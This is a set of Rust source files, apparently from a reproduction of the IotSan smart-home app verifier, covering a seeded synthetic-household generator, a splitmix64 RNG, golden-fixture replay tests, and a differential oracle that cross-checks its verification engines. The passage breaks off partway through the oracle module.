            eprintln!("error: cannot read baseline {path}: {e}");
            std::process::exit(2);
        }))
    } else {
        None
    };
    if let Some(unknown) = args.first() {
        eprintln!("error: unknown argument `{unknown}`");
        eprintln!("usage: analyze [--deny-dead-code] [--baseline <path>]");
        std::process::exit(2);
    }

    let corpus = market::market_apps();
    let sources: Vec<&str> = corpus.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("market corpus translates");
    let config = expert_configure(&apps, &standard_household());
    let diagnostics = lint_system(&apps, &config);
    print!("{}", render_report(&diagnostics));

    if deny_dead_code {
        let known = |line: &str| baseline.as_deref().is_some_and(|b| b.lines().any(|l| l == line));
        let denied: Vec<String> = diagnostics
            .iter()
            .filter(|d| d.kind.denied_as_dead_code())
            .map(|d| d.to_string())
            .filter(|line| !known(line))
            .collect();
        if !denied.is_empty() {
            eprintln!(
                "error: {} dead-code finding(s) not in the baseline (--deny-dead-code):",
                denied.len()
            );
            for line in &denied {
                eprintln!("  {line}");
            }
            std::process::exit(1);
        }
        println!("--deny-dead-code: no dead-code findings beyond the baseline");
    }
}
