//! Golden reproduction fixtures: committed under `tests/golden/` at the
//! workspace root, replayed here on every test run.
//!
//! Two kinds of pin:
//! * every `scenario_*.json` fixture must replay through the differential
//!   oracle to the verdict frozen in the file;
//! * `scenario_seed42.json` is additionally a *determinism* pin — its
//!   household must be byte-identical to `Household::generate(42, default)`,
//!   so any generator change that re-rolls existing seeds fails loudly
//!   instead of silently invalidating every committed fixture.
//!
//! To regenerate after a deliberate generator change:
//! `cargo test -p iotsan-scenarios --test golden_fixtures -- --ignored`.

use iotsan_scenarios::{check_household, shrink, Fixture, Household, SizeProfile};
use std::fs;
use std::path::PathBuf;

fn golden_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/golden")
}

fn scenario_fixtures() -> Vec<(PathBuf, Fixture)> {
    let mut fixtures = Vec::new();
    for entry in fs::read_dir(golden_dir()).expect("tests/golden exists") {
        let path = entry.expect("dir entry").path();
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
        if name.starts_with("scenario_") && name.ends_with(".json") {
            let json = fs::read_to_string(&path).expect("fixture readable");
            let fixture = Fixture::from_json(&json)
                .unwrap_or_else(|e| panic!("{}: malformed fixture: {e}", path.display()));
            fixtures.push((path, fixture));
        }
    }
    fixtures
}

#[test]
fn every_committed_fixture_replays_to_its_frozen_verdict() {
    let fixtures = scenario_fixtures();
    assert!(!fixtures.is_empty(), "no scenario_*.json fixtures committed under tests/golden");
    for (path, fixture) in fixtures {
        fixture.replay().unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    }
}

#[test]
fn seed42_fixture_pins_generator_determinism() {
    let path = golden_dir().join("scenario_seed42.json");
    let json = fs::read_to_string(&path).expect("scenario_seed42.json committed");
    let fixture = Fixture::from_json(&json).expect("fixture parses");
    let regenerated = Household::generate(42, &SizeProfile::default());
    assert_eq!(
        fixture.household.to_json(),
        regenerated.to_json(),
        "Household::generate(42) no longer matches the committed fixture — the generator \
         changed; regenerate fixtures with `--ignored` if the change was deliberate"
    );
}

/// Writes the committed fixtures.  `#[ignore]`d: run explicitly after a
/// deliberate generator change, then commit the diff.
#[test]
#[ignore = "regenerates committed golden fixtures; run with -- --ignored"]
fn regenerate_golden_fixtures() {
    let profile = SizeProfile::default();

    // Full household at seed 42: the determinism pin.
    let seed42 = Fixture::capture(Household::generate(42, &profile))
        .unwrap_or_else(|d| panic!("seed 42 diverged: {d}"));
    fs::write(golden_dir().join("scenario_seed42.json"), seed42.to_json() + "\n")
        .expect("fixture written");

    // A shrunk violating household: the minimal-reproduction exemplar.
    let (household, target) = (0..400)
        .map(|s| Household::generate(s, &profile))
        .find_map(|h| {
            let report = check_household(&h).ok()?;
            let target = report.violated.iter().next().copied()?;
            (h.sources.len() >= 2).then_some((h, target))
        })
        .expect("a multi-app violating household in the first 400 seeds");
    let minimal = shrink(&household, |h| {
        check_household(h).map(|r| r.violated.contains(&target)).unwrap_or(false)
    });
    let shrunk =
        Fixture::capture(minimal).unwrap_or_else(|d| panic!("shrunk household diverged: {d}"));
    fs::write(golden_dir().join("scenario_shrunk_violation.json"), shrunk.to_json() + "\n")
        .expect("fixture written");
}
