//! Integration tests of the scenario factory: a differential sweep, the
//! byte-identical determinism pin, and a seeded end-to-end shrink.

use iotsan_scenarios::{check_household, shrink, Household, SizeProfile};

/// Debug-build sweep size; CI's `fuzz-smoke` job runs 200 households in
/// release through `repro scenarios`.
const SWEEP: u64 = 40;

#[test]
fn differential_sweep_finds_no_divergence() {
    let profile = SizeProfile::default();
    let mut truncated = 0usize;
    for seed in 0..SWEEP {
        let household = Household::generate(seed, &profile);
        let report = check_household(&household).unwrap_or_else(|d| panic!("{d}"));
        truncated += report.truncated as usize;
    }
    // The default size profile must keep (almost) every search exhaustive,
    // or the differential guarantee degenerates to verdict-only checking.
    assert!(truncated <= SWEEP as usize / 4, "{truncated}/{SWEEP} households truncated");
}

#[test]
fn generator_output_is_byte_identical_for_identical_seeds() {
    let profile = SizeProfile::default();
    for seed in [0, 1, 17, 42, 1_000_003] {
        let a = Household::generate(seed, &profile).to_json();
        let b = Household::generate(seed, &profile).to_json();
        assert_eq!(a, b, "seed {seed} generated different bytes across calls");
    }
}

#[test]
fn bigger_profiles_still_generate_valid_households() {
    let profile = SizeProfile { max_devices: 12, max_apps: 8 };
    for seed in 0..10 {
        let household = Household::generate(seed, &profile);
        let refs: Vec<&str> = household.sources.iter().map(String::as_str).collect();
        let apps = iotsan::translate_sources(&refs)
            .unwrap_or_else(|e| panic!("seed {seed} failed to translate: {e}"));
        let problems = household.config.validate(&apps);
        assert!(problems.is_empty(), "seed {seed}: {problems:?}");
    }
}

/// End-to-end seeded shrink: find a household that violates some property,
/// shrink it under "still violates that property", and check the minimal
/// reproduction is genuinely minimal (no app can be removed).
#[test]
fn a_violating_seed_shrinks_to_a_minimal_reproduction() {
    let profile = SizeProfile::default();
    let (household, target) = (0..400)
        .map(|s| Household::generate(s, &profile))
        .find_map(|h| {
            let report = check_household(&h).ok()?;
            let target = report.violated.iter().next().copied()?;
            (h.sources.len() >= 2).then_some((h, target))
        })
        .expect("a multi-app violating household in the first 400 seeds");

    let still_violates =
        |h: &Household| check_household(h).map(|r| r.violated.contains(&target)).unwrap_or(false);
    let minimal = shrink(&household, still_violates);

    assert!(still_violates(&minimal), "shrinking lost the violation");
    assert!(minimal.sources.len() <= household.sources.len());
    for i in 0..minimal.sources.len() {
        assert!(
            !still_violates(&minimal.without_app(i)),
            "app {i} is removable — the reproduction is not minimal"
        );
    }
    assert!(minimal.events <= household.events, "shrinking must never raise the event bound");
}
