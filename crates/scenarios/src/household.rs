//! Seeded synthetic households: device mix × generated apps × failure
//! toggles × generated custom properties.
//!
//! [`Household::generate`] is a pure function of `(seed, SizeProfile)`: every
//! choice flows through one splitmix64 stream in a fixed order, so identical
//! seeds produce byte-identical households ([`Household::to_json`]) on every
//! platform and every run.  A household carries everything a verification
//! needs — generated Groovy sources, the [`SystemConfig`] binding them to the
//! generated device mix, the event bound, the failure-injection toggle and
//! generated [`PropertySpec`]s whose atoms reference only capabilities
//! actually present in the household.

use crate::rng::SplitMix64;
use crate::template::{
    draw_guard, ActionFragment, ScenarioApp, TriggerFragment, ACTUATOR_POOL, MODES, SENSOR_POOL,
};
use iotsan_config::{AppConfig, Binding, DeviceConfig, SystemConfig};
use iotsan_properties::{DeviceSelect, Expr, PropertyClass, PropertySpec};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// Size knobs for [`Household::generate`].  The defaults keep every search
/// small enough that all four engines finish exhaustively — the differential
/// oracle's equivalence guarantee only covers complete searches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SizeProfile {
    /// Maximum number of devices (inclusive; households may draw fewer,
    /// including zero).
    pub max_devices: usize,
    /// Maximum number of apps (inclusive; zero-app households are legal and
    /// deliberately generated — they exercise the planner's empty-plan path).
    pub max_apps: usize,
}

impl Default for SizeProfile {
    fn default() -> Self {
        SizeProfile { max_devices: 6, max_apps: 4 }
    }
}

/// One generated household: the unit the differential oracle checks.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Household {
    /// The seed this household was generated from (0 for hand-built ones).
    pub seed: u64,
    /// External-event bound for verification.
    pub events: usize,
    /// Exhaustive device/communication failure injection.
    pub failures: bool,
    /// Generated Groovy sources, aligned index-for-index with
    /// `config.apps`.
    pub sources: Vec<String>,
    /// Devices, bindings, initial mode and generated custom properties.
    pub config: SystemConfig,
}

/// First property id the generator assigns — far above the 45 built-ins and
/// the 46+ range ARCHITECTURE reserves for hand-written customs.
pub const GENERATED_PROPERTY_BASE: u32 = 100;

impl Household {
    /// Generates the household for `seed` under `profile`.  Deterministic:
    /// identical arguments produce byte-identical [`Household::to_json`]
    /// output.
    pub fn generate(seed: u64, profile: &SizeProfile) -> Household {
        let mut rng = SplitMix64::new(seed);
        let mut config = SystemConfig::new();
        config.initial_mode = (*rng.pick(MODES)).to_string();

        // --- Device mix -------------------------------------------------
        let n_devices = rng.below(profile.max_devices + 1);
        for i in 0..n_devices {
            // Draw from the combined pool, sensors slightly favoured so most
            // households have something to subscribe to.
            let (capability, role) = if rng.chance(55) {
                let (cap, _, _) = rng.pick(SENSOR_POOL);
                ((*cap).to_string(), String::new())
            } else {
                let (cap, _, _, _) = rng.pick(ACTUATOR_POOL);
                let role = match *cap {
                    // Roles tickle the role-addressed built-ins (e.g. the
                    // "main door lock stays locked when away" family).
                    "lock" if rng.chance(40) => "main door lock",
                    "switch" if rng.chance(30) => "heater",
                    _ => "",
                };
                ((*cap).to_string(), role.to_string())
            };
            let label = format!("d{i}{}", camel(&capability));
            config.devices.push(DeviceConfig::new(label, capability, role));
        }

        // --- Apps -------------------------------------------------------
        let sensors: Vec<&DeviceConfig> = config
            .devices
            .iter()
            .filter(|d| SENSOR_POOL.iter().any(|(cap, _, _)| *cap == d.capability))
            .collect();
        let actuators: Vec<&DeviceConfig> = config
            .devices
            .iter()
            .filter(|d| ACTUATOR_POOL.iter().any(|(cap, _, _, _)| *cap == d.capability))
            .collect();

        let n_apps = rng.below(profile.max_apps + 1);
        let mut sources = Vec::new();
        let mut app_configs = Vec::new();
        for i in 0..n_apps {
            let trigger = if sensors.is_empty() || rng.chance(10) {
                TriggerFragment::AppTouch
            } else {
                let device = *rng.pick(&sensors);
                let (_, attribute, values) = SENSOR_POOL
                    .iter()
                    .find(|(cap, _, _)| *cap == device.capability)
                    .expect("sensor device came from the pool");
                let value = if values.is_empty() || rng.chance(30) {
                    None
                } else {
                    Some((*rng.pick(values)).to_string())
                };
                TriggerFragment::Device {
                    label: device.label.clone(),
                    capability: device.capability.clone(),
                    attribute: (*attribute).to_string(),
                    value,
                }
            };
            let guard = draw_guard(&mut rng, &trigger);

            // Pick the actuator binding first so command fragments know
            // their command vocabulary.
            let (actuator_labels, actuator_capability, commands) = if actuators.is_empty() {
                (Vec::new(), None, &[][..])
            } else {
                let device = *rng.pick(&actuators);
                let (_, commands, _, _) = ACTUATOR_POOL
                    .iter()
                    .find(|(cap, _, _, _)| *cap == device.capability)
                    .expect("actuator device came from the pool");
                // Sometimes bind every same-capability device (multiple).
                let labels: Vec<String> = if rng.chance(25) {
                    actuators
                        .iter()
                        .filter(|d| d.capability == device.capability)
                        .map(|d| d.label.clone())
                        .collect()
                } else {
                    vec![device.label.clone()]
                };
                (labels, Some(device.capability.clone()), *commands)
            };

            let n_actions = rng.range(1, 2);
            let mut actions = Vec::new();
            for _ in 0..n_actions {
                let action = match rng.below(6) {
                    0 | 1 if !commands.is_empty() => {
                        ActionFragment::Command { command: (*rng.pick(commands)).to_string() }
                    }
                    2 if !commands.is_empty() => ActionFragment::ScheduleCommand {
                        delay: [30, 60, 600][rng.below(3)],
                        command: (*rng.pick(commands)).to_string(),
                    },
                    3 => ActionFragment::SetMode((*rng.pick(MODES)).to_string()),
                    4 => ActionFragment::AppState,
                    5 if rng.chance(40) => match &trigger {
                        TriggerFragment::Device { attribute, .. } => {
                            let values = SENSOR_POOL
                                .iter()
                                .find(|(_, attr, _)| attr == attribute)
                                .map(|(_, _, values)| *values)
                                .unwrap_or(&[]);
                            if values.is_empty() {
                                ActionFragment::Push
                            } else {
                                ActionFragment::FakeEvent {
                                    attribute: attribute.clone(),
                                    value: (*rng.pick(values)).to_string(),
                                }
                            }
                        }
                        TriggerFragment::AppTouch => ActionFragment::Push,
                    },
                    _ => ActionFragment::Push,
                };
                actions.push(action);
            }
            // An app whose every action needs an actuator but that bound
            // none still renders fine (push-only body would be nicer, but
            // the dedup below guarantees at least one action survived).
            let uses_actuator = actions.iter().any(|a| {
                matches!(a, ActionFragment::Command { .. } | ActionFragment::ScheduleCommand { .. })
            });

            let app = ScenarioApp {
                name: format!("Scn {seed}-{i}"),
                trigger,
                guard,
                actions,
                actuator_labels: if uses_actuator { actuator_labels } else { Vec::new() },
                actuator_capability: if uses_actuator { actuator_capability } else { None },
            };

            let mut app_config = AppConfig::new(app.name.clone());
            if let TriggerFragment::Device { label, .. } = &app.trigger {
                app_config = app_config.with("trigger", Binding::Devices(vec![label.clone()]));
            }
            if !app.actuator_labels.is_empty() {
                app_config =
                    app_config.with("actuator", Binding::Devices(app.actuator_labels.clone()));
            }
            sources.push(app.to_groovy());
            app_configs.push(app_config);
        }
        config.apps = app_configs;

        // --- Generated custom properties --------------------------------
        let present_actuators: Vec<&(&str, &[&str], &str, &str)> = ACTUATOR_POOL
            .iter()
            .filter(|(cap, _, _, _)| config.devices.iter().any(|d| d.capability == *cap))
            .collect();
        let has_numeric = |cap: &str| config.devices.iter().any(|d| d.capability == cap);
        let n_props = rng.below(3);
        for k in 0..n_props {
            let id = GENERATED_PROPERTY_BASE + k as u32;
            let spec = match rng.below(3) {
                0 if !present_actuators.is_empty() => {
                    let (cap, _, attr, active) = *rng.pick(&present_actuators);
                    let mode = *rng.pick(MODES);
                    Some(
                        PropertySpec::builder(id, format!("No {cap} {active} while {mode}"))
                            .category("Generated")
                            .class(PropertyClass::Custom("Generated".into()))
                            .never(Expr::and([
                                Expr::mode_is(mode),
                                Expr::capability_attr(*cap, *attr, *active),
                            ])),
                    )
                }
                1 if !present_actuators.is_empty() => {
                    let (cap, commands, _, _) = *rng.pick(&present_actuators);
                    let command = *rng.pick(commands);
                    Some(
                        PropertySpec::builder(id, format!("{cap} never commanded {command}"))
                            .category("Generated")
                            .class(PropertyClass::Custom("Generated".into()))
                            .never(Expr::command_issued(DeviceSelect::capability(*cap), command)),
                    )
                }
                _ if has_numeric("temperatureMeasurement") => Some(
                    PropertySpec::builder(id, "Temperature never below freezing-risk floor")
                        .category("Generated")
                        .class(PropertyClass::Custom("Generated".into()))
                        .never(Expr::any_below(
                            DeviceSelect::capability("temperatureMeasurement"),
                            "temperature",
                            50.0,
                        )),
                ),
                _ => None,
            };
            if let Some(spec) = spec {
                debug_assert!(spec.validate().is_ok(), "generated spec is valid");
                config.custom_properties.push(spec);
            }
        }

        let events = rng.range(1, 2);
        let failures = rng.chance(15);
        Household { seed, events, failures, sources, config }
    }

    /// Serializes the household to pretty JSON — the byte-identical artifact
    /// the determinism test compares and the fixture format stores.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("household serializes")
    }

    /// Parses a household back from [`Household::to_json`] output.
    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
        serde_json::from_str(json)
    }

    /// The capabilities present in the household's device mix.
    pub fn capabilities(&self) -> BTreeSet<String> {
        self.config.devices.iter().map(|d| d.capability.clone()).collect()
    }

    // --- Shrinking surgery (used by `crate::shrink`) --------------------

    /// The household without app `index` (drops the source and its
    /// bindings together — the two vectors stay aligned).
    pub fn without_app(&self, index: usize) -> Household {
        let mut out = self.clone();
        out.sources.remove(index);
        out.config.apps.remove(index);
        out
    }

    /// The household with every device no binding references removed, and
    /// every custom property that referenced a now-absent capability or
    /// label dropped with it.
    pub fn without_unused_devices(&self) -> Household {
        let mut out = self.clone();
        let referenced: BTreeSet<&String> = out
            .config
            .apps
            .iter()
            .flat_map(|a| a.bindings.iter())
            .flat_map(|(_, b)| b.device_labels().iter())
            .collect();
        let keep: Vec<DeviceConfig> =
            out.config.devices.iter().filter(|d| referenced.contains(&d.label)).cloned().collect();
        out.config.devices = keep;
        let caps = out.capabilities();
        let labels: BTreeSet<String> = out.config.devices.iter().map(|d| d.label.clone()).collect();
        out.config.custom_properties.retain(|spec| property_fits(spec, &caps, &labels));
        out
    }

    /// The household without custom property `index`.
    pub fn without_property(&self, index: usize) -> Household {
        let mut out = self.clone();
        out.config.custom_properties.remove(index);
        out
    }

    /// The household with the event bound lowered to `events`.
    pub fn with_events(&self, events: usize) -> Household {
        let mut out = self.clone();
        out.events = events;
        out
    }

    /// The household with failure injection disabled.
    pub fn without_failures(&self) -> Household {
        let mut out = self.clone();
        out.failures = false;
        out
    }
}

/// True when every device selector `spec` mentions still resolves against
/// the given capability and label sets (selector-less atoms always fit).
fn property_fits(spec: &PropertySpec, caps: &BTreeSet<String>, labels: &BTreeSet<String>) -> bool {
    let mut fits = true;
    for expr in spec.modality.exprs() {
        expr.visit_atoms(&mut |atom| {
            if let Some(select) = atom_select(atom) {
                if let Some(cap) = &select.capability {
                    fits &= caps.contains(cap);
                }
                if let Some(label) = &select.label {
                    fits &= labels.contains(label);
                }
            }
        });
    }
    fits
}

/// The device selector of an atom, when it has one.
fn atom_select(atom: &iotsan_properties::Atom) -> Option<&DeviceSelect> {
    use iotsan_properties::Atom;
    match atom {
        Atom::AnyAttr(t) | Atom::AllAttr(t) => Some(&t.select),
        Atom::AnyBelow(t) | Atom::AnyAbove(t) => Some(&t.select),
        Atom::HasDevice(select) | Atom::AnyOffline(select) => Some(select),
        Atom::CommandIssued(t) => Some(&t.select),
        _ => None,
    }
}

/// CamelCases a capability name for device labels (`motionSensor` →
/// `MotionSensor`).
fn camel(capability: &str) -> String {
    let mut chars = capability.chars();
    match chars.next() {
        Some(first) => first.to_ascii_uppercase().to_string() + chars.as_str(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic_and_seed_sensitive() {
        let profile = SizeProfile::default();
        let a = Household::generate(12, &profile);
        let b = Household::generate(12, &profile);
        assert_eq!(a, b);
        assert_eq!(a.to_json(), b.to_json());
        // Some nearby seed must differ (overwhelmingly likely for any pair;
        // pinned here so a constant-output bug cannot hide).
        let different = (13..20).any(|s| Household::generate(s, &profile) != a);
        assert!(different, "seeds 13..20 all generated the identical household");
    }

    #[test]
    fn json_round_trips() {
        let h = Household::generate(99, &SizeProfile::default());
        let parsed = Household::from_json(&h.to_json()).expect("round-trip parses");
        assert_eq!(parsed, h);
    }

    #[test]
    fn every_generated_source_translates() {
        let profile = SizeProfile::default();
        for seed in 0..40 {
            let h = Household::generate(seed, &profile);
            let refs: Vec<&str> = h.sources.iter().map(String::as_str).collect();
            let apps = iotsan::translate_sources(&refs)
                .unwrap_or_else(|e| panic!("seed {seed}: generated groovy must translate: {e}"));
            assert_eq!(apps.len(), h.sources.len());
            assert_eq!(apps.len(), h.config.apps.len(), "sources and bindings stay aligned");
            // Bindings reference installed devices with the right capability.
            let problems = h.config.validate(&apps);
            assert!(problems.is_empty(), "seed {seed}: invalid config: {problems:?}");
        }
    }

    #[test]
    fn generated_properties_reference_only_present_capabilities() {
        let profile = SizeProfile::default();
        for seed in 0..60 {
            let h = Household::generate(seed, &profile);
            let caps = h.capabilities();
            let labels: BTreeSet<String> =
                h.config.devices.iter().map(|d| d.label.clone()).collect();
            for spec in &h.config.custom_properties {
                assert!(spec.validate().is_ok());
                assert!(
                    property_fits(spec, &caps, &labels),
                    "seed {seed}: property {} references an absent device",
                    spec.property_id()
                );
            }
        }
    }

    #[test]
    fn shrinking_surgery_keeps_the_household_consistent() {
        let profile = SizeProfile::default();
        let h = (0..100)
            .map(|s| Household::generate(s, &profile))
            .find(|h| h.sources.len() >= 2 && !h.config.devices.is_empty())
            .expect("a multi-app household in the first 100 seeds");
        let fewer = h.without_app(0);
        assert_eq!(fewer.sources.len(), h.sources.len() - 1);
        assert_eq!(fewer.config.apps.len(), h.config.apps.len() - 1);
        let pruned = fewer.without_unused_devices();
        let refs: Vec<&str> = pruned.sources.iter().map(String::as_str).collect();
        let apps = iotsan::translate_sources(&refs).expect("pruned household translates");
        assert!(pruned.config.validate(&apps).is_empty());
    }
}
