//! Scenario factory: seeded synthetic households and a differential oracle.
//!
//! The paper evaluates IotSan on one hand-assembled 150-app configuration;
//! this crate generates *arbitrarily many* synthetic configurations and uses
//! them to cross-check the reproduction's own engines against each other.
//! Three layers:
//!
//! 1. **Generation** ([`Household::generate`]): a splitmix64-seeded, fully
//!    deterministic generator that emits a device mix, Groovy smart apps
//!    composed from IFTTT-style fragments (subscribe / guard / command /
//!    schedule / app-state / fake-event), failure-injection toggles and
//!    custom [`PropertySpec`]s whose atoms reference only devices actually
//!    present.  Identical seeds produce byte-identical households.
//! 2. **Differential oracle** ([`check_household`]): sequential, parallel,
//!    sliced and warm-cache runs of the full pipeline must agree on every
//!    household; small instances also spot-check the Promela emitter's LTL
//!    derivation against the native checker's property set.
//! 3. **Shrinking** ([`fn@shrink`]): failing seeds reduce deterministically to
//!    minimal reproductions, serializable as committable JSON fixtures.
//!
//! The same seeded-generate/shrink discipline extends to the daemon's
//! self-healing harness: [`chaos::ChaosPlan`] generates deterministic I/O
//! fault schedules the `repro chaos` experiment maps onto the daemon's
//! fault seam.
//!
//! The `repro scenarios` experiment (crate `iotsan-bench`) drives all three
//! from the command line and in CI.
//!
//! [`PropertySpec`]: iotsan_properties::PropertySpec

pub mod chaos;
pub mod fixture;
pub mod household;
pub mod oracle;
pub mod rng;
pub mod shrink;
pub mod template;

pub use chaos::{ChaosFault, ChaosFaultKind, ChaosPlan};
pub use fixture::Fixture;
pub use household::{Household, SizeProfile, GENERATED_PROPERTY_BASE};
pub use oracle::{check_household, Divergence, HouseholdReport, Phase, PARALLEL_WORKERS};
pub use rng::SplitMix64;
pub use shrink::shrink;
pub use template::{ActionFragment, GuardFragment, ScenarioApp, TriggerFragment};
