//! Committable reproduction fixtures.
//!
//! A [`Fixture`] freezes one household together with the verdict the
//! differential oracle observed for it — the union of violated property ids
//! and the planner's group count.  Shrunk failing seeds are serialized in
//! this shape under `tests/golden/scenario_*.json`; the loader test replays
//! each committed fixture through [`check_household`] and asserts the
//! verdict has not drifted.  The `repro scenarios` experiment writes the
//! same shape (`scenario_repro.json`) when a divergence slips through CI.

use crate::household::Household;
use crate::oracle::{check_household, Divergence};
use serde::{Deserialize, Serialize};

/// A household plus the verdict it must keep reproducing.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fixture {
    /// The (usually shrunk) household.
    pub household: Household,
    /// Union of violated property ids across groups, sorted ascending.
    pub expected_violated: Vec<u32>,
    /// Number of related-set groups the planner must form.
    pub expected_groups: usize,
}

impl Fixture {
    /// Runs the differential oracle on `household` and freezes its verdict.
    pub fn capture(household: Household) -> Result<Fixture, Divergence> {
        let report = check_household(&household)?;
        Ok(Fixture {
            household,
            expected_violated: report.violated.iter().copied().collect(),
            expected_groups: report.groups,
        })
    }

    /// Re-runs the oracle and checks the verdict still matches.  Returns a
    /// human-readable mismatch description on drift.
    pub fn replay(&self) -> Result<(), String> {
        let report = check_household(&self.household).map_err(|d| d.to_string())?;
        let violated: Vec<u32> = report.violated.iter().copied().collect();
        if violated != self.expected_violated {
            return Err(format!(
                "violated set drifted: expected {:?}, got {violated:?}",
                self.expected_violated
            ));
        }
        if report.groups != self.expected_groups {
            return Err(format!(
                "group count drifted: expected {}, got {}",
                self.expected_groups, report.groups
            ));
        }
        Ok(())
    }

    /// Serializes the fixture to pretty JSON (the committed on-disk format).
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("fixture serializes")
    }

    /// Parses a fixture from [`Fixture::to_json`] output.
    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
        serde_json::from_str(json)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::household::SizeProfile;

    #[test]
    fn capture_replay_round_trips() {
        let household = Household::generate(5, &SizeProfile::default());
        let fixture = Fixture::capture(household).expect("seed 5 agrees across engines");
        let parsed = Fixture::from_json(&fixture.to_json()).expect("fixture parses");
        assert_eq!(parsed, fixture);
        parsed.replay().expect("fresh fixture replays to its own verdict");
    }

    #[test]
    fn replay_flags_a_drifted_verdict() {
        let household = Household::generate(5, &SizeProfile::default());
        let mut fixture = Fixture::capture(household).expect("seed 5 agrees");
        fixture.expected_groups += 1;
        let err = fixture.replay().expect_err("must notice the drift");
        assert!(err.contains("group count drifted"), "{err}");
    }
}
