//! The generator's random-number source: splitmix64.
//!
//! Every choice the scenario factory makes flows through one [`SplitMix64`]
//! stream seeded from the household seed, in a fixed call order — that is the
//! whole determinism contract.  Same seed, same generator version, same
//! household, byte for byte.  The algorithm is Steele/Lea/Flood's splitmix64
//! (the same finalizer the checker's state hasher uses), chosen because it is
//! tiny, fast, dependency-free and trivially portable across platforms.

/// A splitmix64 pseudo-random stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SplitMix64 {
    state: u64,
}

impl SplitMix64 {
    /// Creates a stream seeded with `seed`.
    pub fn new(seed: u64) -> Self {
        SplitMix64 { state: seed }
    }

    /// The next 64 pseudo-random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A value in `0..n` (`n` must be positive).  The modulo bias is
    /// irrelevant at the tiny ranges the generator draws from.
    pub fn below(&mut self, n: usize) -> usize {
        debug_assert!(n > 0, "below(0) is meaningless");
        (self.next_u64() % n as u64) as usize
    }

    /// A value in `lo..=hi`.
    pub fn range(&mut self, lo: usize, hi: usize) -> usize {
        debug_assert!(lo <= hi);
        lo + self.below(hi - lo + 1)
    }

    /// True with probability `percent`/100.
    pub fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    /// A uniformly chosen element of `items` (must be non-empty).
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_seeds_yield_identical_streams() {
        let mut a = SplitMix64::new(42);
        let mut b = SplitMix64::new(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn known_vector_is_stable() {
        // Reference value of splitmix64 at seed 0 — pins the algorithm so a
        // refactor cannot silently re-seed every committed fixture.
        let mut rng = SplitMix64::new(0);
        assert_eq!(rng.next_u64(), 0xE220_A839_7B1D_CDAF);
    }

    #[test]
    fn helpers_stay_in_range() {
        let mut rng = SplitMix64::new(7);
        for _ in 0..200 {
            assert!(rng.below(3) < 3);
            let v = rng.range(2, 5);
            assert!((2..=5).contains(&v));
            let picked = *rng.pick(&[10, 20, 30]);
            assert!([10, 20, 30].contains(&picked));
        }
    }
}
