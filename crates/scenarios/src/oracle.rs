//! The differential oracle: four engine configurations, one verdict.
//!
//! For each generated [`Household`] the oracle runs the full pipeline four
//! ways — sequential, parallel workers, property-directed slicing, and a
//! warm-cache rerun — and asserts they agree.  The equivalence each engine
//! advertises is checked exactly:
//!
//! * **parallel == sequential**: identical [`GroupOutcome`]s (violated sets,
//!   state and transition counts) — the sharded parallel checker's
//!   deterministic-merge guarantee.
//! * **sliced == sequential**: identical violated sets per group; state and
//!   transition counts may only shrink (slicing prunes, never adds).
//! * **warm == sequential**: identical outcomes with every group served from
//!   the cache ([`FleetReport::cache_hits`] equals the group count).
//!
//! Count comparisons are skipped when any run truncated (depth or state cap
//! fired): the deterministic-merge guarantee only covers complete searches.
//! Small households additionally spot-check the Promela emitter's LTL
//! derivation: every property the native checker evaluated must appear as an
//! `ltl pN { ... }` block rendered from the same spec.

use crate::household::Household;
use iotsan::{FleetReport, GroupOutcome, Pipeline, VerificationCache};
use iotsan_config::SystemConfig;
use iotsan_telemetry::flight::{self, EventCode, Level};
use std::collections::BTreeSet;
use std::fmt;

/// The oracle phase in which two engines disagreed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    /// The generated Groovy failed to translate (a generator/frontend bug).
    Translate,
    /// Parallel outcome differed from sequential.
    Parallel,
    /// Sliced violated sets differed from sequential (or grew the search).
    Sliced,
    /// Warm-cache rerun differed, or some group missed the cache.
    WarmCache,
    /// The Promela emission lost or mangled a property's LTL block.
    Promela,
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Phase::Translate => "translate",
            Phase::Parallel => "parallel",
            Phase::Sliced => "sliced",
            Phase::WarmCache => "warm-cache",
            Phase::Promela => "promela",
        };
        f.write_str(name)
    }
}

/// A reproducible disagreement between two engine configurations.
#[derive(Debug, Clone)]
pub struct Divergence {
    /// The seed of the household that exposed it.
    pub seed: u64,
    /// Which comparison failed.
    pub phase: Phase,
    /// Human-readable description of the mismatch.
    pub detail: String,
}

impl fmt::Display for Divergence {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "seed {} diverged in phase {}: {}", self.seed, self.phase, self.detail)
    }
}

/// Aggregate statistics of one agreeing household check (for bench rows).
#[derive(Debug, Clone, Default)]
pub struct HouseholdReport {
    /// Number of related-set groups the planner formed.
